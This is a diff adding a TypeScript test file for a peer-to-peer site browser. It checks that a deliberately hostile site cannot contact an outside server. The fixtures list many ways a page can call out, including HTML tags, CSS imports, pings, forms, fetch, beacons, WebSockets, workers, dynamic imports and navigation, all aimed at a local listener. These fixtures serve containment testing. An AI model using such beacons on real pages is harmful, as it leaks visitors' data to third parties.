@@ -1,0 +1,151 @@
+// A hostile site in an ordinary browser: whatever its pages try, nothing reaches anybody else's server.
+import { once } from 'node:events';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { createServer, type AddressInfo, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { launch, type Browser } from '../chromium';
+import { run, start, type Program } from './program';
+import { world, type World } from './world';
+
+/** Somebody else's server: what was sent to it, and how often anybody connected. */
+interface Stranger {
+  server: Server;
+  url: string;
+  heard: string[];
+  calls: number;
+}
+
+async function stranger(): Promise<Stranger> {
+  const heard: string[] = [];
+  const it: Stranger = { server: createServer(), url: '', heard, calls: 0 };
+  it.server.on('connection', (socket) => {
+    it.calls += 1;
+    socket.on('data', (part) => heard.push(part.toString().split('\r\n')[0] ?? ''));
+    socket.on('error', () => undefined);
+  });
+  it.server.listen(0, '127.0.0.1');
+  await once(it.server, 'listening');
+  it.url = `http://127.0.0.1:${String((it.server.address() as AddressInfo).port)}`;
+  return it;
+}
+
+/** Everything that a page without scripts can try. */
+const still = (to: string) => `<!doctype html><title>Evenings</title>
+  <link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}"><link rel="prefetch" href="${to}/prefetch">
+  <link rel="preload" as="image" href="${to}/preload"><link rel="stylesheet" href="${to}/style">
+  <meta http-equiv="refresh" content="1;url=${to}/refresh"><base href="${to}/base/">
+  <style>@import url(${to}/import); body { background: url(${to}/background) }</style>
+  <h1>Evenings</h1><img src="${to}/img" srcset="${to}/srcset 2x"><video src="${to}/video" poster="${to}/poster"></video>
+  <iframe src="${to}/iframe"></iframe><object data="${to}/object"></object><embed src="${to}/embed">
+  <svg><image href="${to}/svg" width="9" height="9"/><use href="${to}/use#a"/></svg>
+  <a id="out" href="${to}/link" ping="${to}/ping">out</a><form action="${to}/form"><button>send</button></form>
+  <script>location = '${to}/script'</script><p onclick="1" onload="fetch('${to}/handler')">the end</p>`;
+
+/** Everything that a script can try, but for what no policy forbids in an ordinary browser: preconnect and WebRTC. */
+const acts = (to: string) => `
+  const tries = [
+    () => fetch('${to}/fetch', { mode: 'no-cors' }),
+    () => navigator.sendBeacon('${to}/beacon', 'x'),
+    () => { new Image().src = '${to}/image'; },
+    () => new WebSocket('${to.replace('http', 'ws')}/socket'),
+    () => new EventSource('${to}/events'),
+    () => new Worker('${to}/worker.js'),
+    () => navigator.serviceWorker.register('/sw.js'),
+    () => open('${to}/open'),
+    () => { top.location = '${to}/top'; },
+    () => { const f = document.createElement('iframe'); f.src = '${to}/frame'; document.body.append(f); },
+    () => { const f = document.createElement('form'); f.action = '${to}/form'; document.body.append(f); f.submit(); },
+    () => { const s = document.createElement('script'); s.src = '${to}/script.js'; document.body.append(s); },
+    () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${to}/prefetch'; document.head.append(l); },
+    () => import('${to}/module.js'),
+    () => parent.document.title,
+    () => eval('1'),
+  ];
+  const went = [];
+  for (const attempt of tries) {
+    try { const what = attempt(); if (what && what.catch) what.catch(() => {}); } catch { went.push('refused'); }
+  }
+  document.getElementById('told').textContent = 'tried ' + tries.length;
+  setTimeout(() => { location = '${to}/location'; }, 300);`;
+
+describe('a hostile site', () => {
+  let machines: World;
+  let leak: Stranger;
+  let browser: Browser;
+  let folder: string;
+  const opened: Program[] = [];
+
+  beforeAll(async () => {
+    machines = await world();
+    leak = await stranger();
+    browser = await launch();
+    folder = await mkdtemp(join(tmpdir(), 'kinora-sites-'));
+  });
+  afterAll(async () => {
+    await browser.close();
+    for (const each of opened) await each.end();
+    leak.server.close();
+    await machines.end();
+    await rm(folder, { recursive: true, force: true });
+  });
+
+  /** Publishes these pages from a machine of their own and opens them there. */
+  async function site(name: string, pages: Record<string, string>, more: string[] = []): Promise<Program> {
+    const own = ['--data-dir', join(folder, name)];
+    const made = await run(['site', 'create', name, '--contact', 'mailto:rights@example.org', ...own]);
+    const place = join(folder, `${name}-pages`);
+    await mkdir(place);
+    for (const [path, text] of Object.entries(pages)) await writeFile(join(place, path), text);
+    const near = [
+      '--listen',
+      '127.0.0.1:0',
+      '--dht-bootstrap',
+      machines.publisher.listens,
+      '--no-lsd',
+      ...own,
+    ];
+    await run(['site', 'publish', place, '--once', ...more, ...near]);
+    const program = await start(['site', 'open', String(made['address']), ...near]);
+    opened.push(program);
+    return program;
+  }
+
+  it('without scripts shows its text and calls nobody', async () => {
+    const shown = await site('still', { 'index.html': still(leak.url) });
+    const page = await browser.page();
+    await page.goto(shown.url);
+    expect(new URL(page.url()).hostname).toBe('site.localhost');
+    const inside = page.frameLocator('iframe');
+    await inside.getByText('the end').waitFor();
+    await inside.getByRole('button', { name: 'send' }).click();
+    expect(await inside.locator('#out').innerText()).toBe(`out [${leak.url}/link]`);
+    // Longer than the refresh would have waited.
+    await page.waitForTimeout(1_500);
+    await inside.getByText('the end').waitFor();
+    expect(leak.heard).toEqual([]);
+    expect(leak.calls).toBe(0);
+    await page.close();
+  });
+
+  it('with scripts asks first, and then reaches nobody but itself', async () => {
+    const pages = {
+      'index.html': '<p id="told">quiet</p><script src="a.js"></script>',
+      'a.js': acts(leak.url),
+    };
+    const shown = await site('acting', pages, ['--scripts']);
+    const page = await browser.page();
+    await page.goto(shown.url);
+    const inside = page.frameLocator('iframe');
+    await inside.getByText('quiet').waitFor();
+    await page.getByText('WebRTC').waitFor();
+    await page.getByRole('button', { name: 'Let its scripts run' }).click();
+    await inside.getByText('tried 16').waitFor();
+    await page.waitForTimeout(1_500);
+    expect(new URL(page.url()).hostname).toBe('site.localhost');
+    expect(leak.heard).toEqual([]);
+    expect(browser.context.pages().every((each) => !each.url().startsWith(leak.url))).toBe(true);
+    await page.close();
+  });
+});
